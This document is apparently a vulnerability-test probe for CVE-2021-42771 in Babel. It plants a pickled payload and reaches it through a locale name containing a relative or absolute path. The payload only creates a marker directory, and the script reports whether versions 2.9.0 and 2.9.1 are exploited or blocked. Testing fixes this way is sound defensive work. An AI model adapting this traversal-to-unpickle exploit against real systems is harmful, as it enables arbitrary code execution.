# /// vertice-probe
# id = "PYSEC-2021-421"
# aliases = ["CVE-2021-42771", "GHSA-h4m5-qpfp-3mpv"]
# package = "babel"
# summary = """\
#   Locale names are joined to the data folder without a check, so a name with a path in it unpickles a file of the \
#   caller's choice, which runs code."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = ["babel.Locale", "babel.core.Locale", "babel.localedata.load", "babel.localedata.exists"]
#
# [[affected]]
# package = "babel"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "2.9.1" }] }]
#
# [cases]
# attack = "Locale with a relative path unpickles a planted .dat file that writes a marker"
# [cases.variants]
# absolute = "localedata.load with an absolute path"
# [cases.controls]
# german = "Locale('de', 'AT') gives its names and formats"
#
# [test]
# vulnerable = "2.9.0"
# fixed = "2.9.1"
# python = "<3.12"
# ///
"""CVE-2021-42771: a locale name that climbs out of the data folder."""

import json
import os
import pickle
import shutil
import sys
import tempfile

# "_" would split the locale's name, and mkdtemp may use it
BASE = os.path.join(os.path.realpath(tempfile.gettempdir()), "babelprobe%d" % os.getpid())
MARKER = os.path.join(BASE, "marker")


class Payload:
    def __reduce__(self):
        return os.mkdir, (MARKER,)


def plant():
    os.mkdir(BASE)
    with open(os.path.join(BASE, "evil.dat"), "wb") as stream:
        pickle.dump(Payload(), stream, 2)
    return os.path.join(BASE, "evil")


def marked():
    done = os.path.isdir(MARKER)
    shutil.rmtree(BASE)
    return done


def attack():
    import babel
    from babel import localedata

    name = os.path.relpath(plant(), os.path.realpath(os.path.join(os.path.dirname(localedata.__file__), "locale-data")))
    refusal = None
    try:
        locale = babel.Locale(name)
        list(locale.decimal_formats)  # loads the data
    except babel.UnknownLocaleError as error:
        refusal = str(error)
    except (AttributeError, TypeError, KeyError):
        pass  # the unpickled thing is no locale data; the marker tells
    if marked():
        return "exploited", "the planted file was unpickled and made the marker"
    if refusal and "unknown locale" in refusal:
        return "blocked", "UnknownLocaleError for the name with a path"
    raise RuntimeError("neither unpickled nor refused: %s" % refusal)


def absolute():
    from babel import localedata

    wanted = os.path.join(os.path.dirname(localedata.__file__), "locale-data", "evil.dat")
    opened = None
    try:
        localedata.load(plant())
    except FileNotFoundError as error:
        opened = error.filename
    except (AttributeError, TypeError, KeyError):
        pass
    if marked():
        return "exploited", "the planted file was unpickled and made the marker"
    if opened == wanted:
        return "blocked", "only the last part of the name is looked up in the data folder"
    raise RuntimeError("neither unpickled nor looked up in the data folder: %s" % opened)


def german():
    import babel

    locale = babel.Locale("de", "AT")
    got = (locale.english_name, locale.number_symbols["decimal"], locale.days["format"]["wide"][0])
    return ("works" if got == ("German (Austria)", ",", "Montag") else "broken"), repr(got)


CASES = {"attack": attack, "absolute": absolute, "german": german}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
